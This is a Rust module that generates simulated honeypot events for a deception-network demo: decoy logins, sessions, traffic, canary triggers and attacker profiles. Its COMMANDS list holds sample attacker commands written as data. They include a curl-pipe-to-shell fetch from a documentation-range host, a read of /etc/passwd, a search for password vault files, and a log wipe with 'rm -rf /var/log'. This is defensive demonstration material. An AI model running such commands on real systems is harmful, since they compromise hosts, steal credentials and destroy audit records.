//! Made-up events of a deception network, for the demonstration: attackers at decoys, canaries, the system itself.
//! Addresses come from the ranges that are reserved for documentation (RFC 5737).

use serde_json::{Value, json};

/// One event before it is sent.
pub(super) struct Sample {
    pub topic: String,
    pub kind: &'static str,
    pub payload: Value,
}

const DECOYS: [(&str, &str, u16); 6] = [
    ("web-01", "http", 443),
    ("files-02", "smb", 445),
    ("jump-03", "ssh", 22),
    ("db-04", "postgres", 5432),
    ("plc-05", "modbus", 502),
    ("mail-06", "smtp", 25),
];
const USERS: [&str; 8] = ["root", "admin", "svc_backup", "oracle", "jdoe", "scada", "postgres", "test"];
const PASSWORDS: [&str; 6] = ["admin", "123456", "P@ssw0rd!", "Sommer2025", "changeme", "toor"];
const COMMANDS: [&str; 6] = [
    "uname -a; id; cat /etc/passwd",
    "curl -s http://198.51.100.23/x.sh | sh",
    "find / -name '*.kdbx' 2>/dev/null",
    "net group \"Domain Admins\" /domain",
    "nmap -sS -p- 10.20.0.0/24",
    "history -c && rm -rf /var/log",
];
const CANARIES: [&str; 4] = ["passwords.xlsx", "aws-credentials", "vpn-config.ovpn", "Q3-salaries.docx"];

/// A random event.
pub(super) fn sample() -> Sample {
    let decoy = one_of(&DECOYS);
    let attacker = format!("203.0.113.{}", fastrand::u8(1..=254));
    match fastrand::u8(0..20) {
        0..5 => login(*decoy, &attacker),
        5..8 => session(*decoy, &attacker),
        8..11 => Sample {
            topic: "attacker.command.executed".to_owned(),
            kind: "command",
            payload: json!({ "decky": decoy.0, "attacker_ip": attacker, "command": one_of(&COMMANDS) }),
        },
        11..14 => Sample {
            topic: format!("decky.{}.traffic", decoy.0),
            kind: "traffic",
            payload: json!({
                "decky": decoy.0, "service": decoy.1, "port": decoy.2, "source": attacker,
                "packets": fastrand::u32(3..900), "bytes": fastrand::u32(200..250_000),
            }),
        },
        14..16 => Sample {
            topic: format!("decky.{}.state", decoy.0),
            kind: "state",
            payload: json!({ "decky": decoy.0, "state": one_of(&["up", "up", "under attack", "reset"]) }),
        },
        16..18 => Sample {
            topic: "canary.triggered".to_owned(),
            kind: "canary",
            payload: json!({ "token": one_of(&CANARIES), "host": decoy.0, "opened_by": attacker, "confidence": 0.97 }),
        },
        18 => Sample {
            topic: "attacker.profile.updated".to_owned(),
            kind: "profile",
            payload: json!({
                "attacker_ip": attacker, "sessions": fastrand::u8(1..40), "score": f64::from(fastrand::u8(40..100)) / 100.0,
                "techniques": ["T1110", one_of(&["T1021", "T1059", "T1083", "T1046"])],
            }),
        },
        _ => Sample {
            topic: "system.health".to_owned(),
            kind: "health",
            payload: json!({ "collector": "collector-1", "decoys_up": DECOYS.len(), "load": f64::from(fastrand::u8(5..90)) / 100.0 }),
        },
    }
}

fn login((decoy, service, port): (&str, &str, u16), attacker: &str) -> Sample {
    let success = fastrand::u8(0..6) == 0;
    Sample {
        topic: format!("attacker.login.{}", if success { "succeeded" } else { "failed" }),
        kind: "login",
        payload: json!({
            "decky": decoy, "service": service, "port": port, "attacker_ip": attacker,
            "username": one_of(&USERS), "password": one_of(&PASSWORDS),
        }),
    }
}

fn session((decoy, service, port): (&str, &str, u16), attacker: &str) -> Sample {
    let ended = fastrand::bool();
    let mut payload = json!({ "decky": decoy, "service": service, "port": port, "attacker_ip": attacker });
    if ended {
        payload["duration_s"] = json!(fastrand::u16(2..1800));
    }
    Sample { topic: format!("attacker.session.{}", if ended { "ended" } else { "started" }), kind: "session", payload }
}

fn one_of<T>(items: &[T]) -> &T {
    &items[fastrand::usize(..items.len())]
}
